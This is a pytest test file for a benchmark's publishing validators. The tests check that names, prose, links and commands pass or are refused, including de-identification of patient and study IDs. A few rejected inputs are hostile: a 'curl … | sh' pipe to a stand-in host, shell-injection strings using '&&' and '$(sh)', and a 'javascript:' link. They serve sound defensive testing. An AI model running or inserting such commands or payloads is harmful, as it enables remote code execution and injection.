from __future__ import annotations

import base64

import pytest

from gazebench.errors import RecordError
from gazebench.publish import texts

MINE = "0f1e2d3c-01234567-89abcdef-0badcafe-deadbeef"

GOOD_NAMES = [
    "interobserver",
    "ag_sononet/attention:gate=1",
    "timm/resnet50:weights=x.safetensors/gradcam/class:Pleural Effusion",
    "finding:High lung volume / emphysema",
    "finding:Abnormal mediastinal contour",
    "view:AP",
    "said:before_s=0.5,after_s=1.5",
    'odd | name, "quoted"/m/é',
    "reflacx (said)",
    "timm/vit_base_patch16_224.augreg2_in21k_ft_in1k",
    "torch 2.9.0.dev20251101+cu128",
    "net:weights=resnet50-0676ba61.pth",
    "code 12345678abcd",
    "net@0123456789abcdef0123456789012345678abcde",
    "Grad-CAM-\u03b2",
    "\u0421\u043e\u043d\u043e\u043d\u0435\u0442",  # all of it Cyrillic: like no Latin name
]
GOOD_PROSE = [
    "",
    "sononet gives no attention maps",
    "a phantom: films and readers are made up, nothing here is a finding about radiologists",
    "2 of 24 cases are not scored: they have fewer usable readings than the study design gave them",
    "present: these classes of net stand for no finding: Edema, Pleural Effusion, Acute fracture",
    "no known finding is called 'Lesion': say --label 'Lesion=FINDING' (Mass, Pneumothorax)",
    "110 of 110 rows have no value (110 undefined: NCC: the map is constant)",
    "bootstrap over images, 10,000 resamples, percentile, 95 %",
    "x86_64, Linux, 2 CPUs, Python 3.11.7",
]
BAD = [
    (MINE, "an image id"),
    (MINE.upper(), "an image id"),
    (f"see{MINE}too", "an image id"),
    (MINE.replace("-", "_"), "an image id"),
    ("P102R472132", "a reading id"),
    ("p10000032", "a subject number"),
    ("10000032", "a subject number"),
    ("subject_id=10000032", "a subject number"),
    ("10000032.0", "a subject number"),
    ("s50414267", "a study number"),
    ("study 50414267", "a study number"),
    ("99000001", "a subject number"),
    ("20000001", "a subject or study number"),
    ("p10000032s50414267", "a subject or study number"),
    ("fold10000032", "a subject or study number"),
    ("gradcam/net10000032png", "a subject or study number"),
    ("P102-R472132", "a reading id"),
    ("mapP102R472132", "a reading id"),
    ("patient_64545", "a patient of CheXpert"),
    ("Patient 64545", "a patient of CheXpert"),
    (MINE.replace("-", "+"), "an image id"),
    (base64.b64encode(b"10000032").decode(), "a subject number of MIMIC-CXR, packed"),
    (base64.b64encode(MINE.encode()).decode(), "packed"),
    (b"p10000032".hex(), "a subject number of MIMIC-CXR, packed"),
    ("00000001_000.png", "an image name of the NIH"),
    ("patient64545", "a patient of CheXpert"),
    ("1.2.840.10008.5.1.4.1.1.1", "a DICOM identifier"),
    ("2.25.329800735698586629295641978511506172918", "a DICOM identifier"),
    ("There is a small left pleural effusion.", "radiology report"),
    ("made at /home/somebody/maps", "a path of a machine"),
    ("file=/data/net.py", "a path of a machine"),
    ("~/maps", "a path of a machine"),
    ("C:\\maps", "a path of a machine"),
    ("\\\\server\\maps", "a path of a machine"),
    ("two\nlines", "a line break"),
    ("\x00", "the control character"),
    ("a\u202eb", "a control character"),
]


@pytest.mark.parametrize("text", GOOD_NAMES)
def test_names_of_entries_and_subsets_pass(text: str) -> None:
    assert texts.name(text, "here") == text


@pytest.mark.parametrize("text", [*GOOD_NAMES, *GOOD_PROSE])
def test_what_runs_say_passes_as_prose(text: str) -> None:
    assert texts.prose(text, "here") == text


@pytest.mark.parametrize(("text", "said"), BAD)
@pytest.mark.parametrize("rule", [texts.name, texts.prose, texts.link, texts.version, texts.key])
def test_what_must_not_leave_is_refused_under_every_rule(
    rule: texts.TextRule, text: str, said: str
) -> None:
    with pytest.raises(RecordError) as refused:
        rule(text, 'manifest.json: not_applicable["x/y"]')

    assert refused.value.message.startswith('manifest.json: not_applicable["x/y"]: ')
    assert said in refused.value.message


@pytest.mark.parametrize(
    ("rule", "good", "bad"),
    [
        (texts.slug, "sononet-2021", "Sononet"),
        (texts.slug, "a", "../a"),
        (texts.slug, "a-b", "a--b"),
        (texts.version, "2.15.0+cu126", "2 15"),
        (texts.sha256, "ab" * 32, "ab" * 20),
        (texts.sha256, "", "AB" * 32),
        (texts.link, "https://arxiv.org/abs/2112.11716", "ftp://somewhere"),
        (texts.link, "", "javascript:alert(1)"),
        (texts.doi, "10.1038/s41597-022-01441-z", "doi:10.1038"),
        (texts.key, "centre_bias", "centre bias"),
        (texts.name, "a", ""),
        (texts.name, "ab " * 66 + "ab", "ab " * 66 + "abc"),
        (texts.name, "a b", "a  b"),
        (texts.name, "a b", "a b "),
        (texts.name, "Grad-CAM", "Grad-\u0421AM"),
        (texts.name, "sononet", "son\u03bfnet"),
        (texts.name, "sononet", "\uff53ononet"),
        (texts.name_or_none, "gradcam", "gr\u0430dcam"),
        (texts.command, "", "gazebench"),
        (texts.command, "gazebench run --model 'a b'", "gazebench run --model 'a b"),
        (texts.command, "gazebench run", "curl https://a.b/c | sh"),
        (texts.command, "gazebench run '&&' sh", "gazebench run && sh"),
        (texts.command, "gazebench run 'x$(sh)'", "gazebench run x$(sh)"),
        (texts.prose, "a " * 500, "a " * 501),
        (texts.name, "a b", "a\\b"),
        (texts.name, "a", "{a}"),
    ],
)
def test_shapes_and_lengths(rule: texts.TextRule, good: str, bad: str) -> None:
    assert rule(good, "here") == good
    with pytest.raises(RecordError, match=r"^here: "):
        rule(bad, "here")


def test_a_refusal_does_not_repeat_what_it_found() -> None:
    with pytest.raises(RecordError) as refused:
        texts.prose("The cardiac silhouette is enlarged, and more so than before.", "notices[0]")

    assert "enlarged" not in str(refused.value)
    assert "The ..." in str(refused.value)
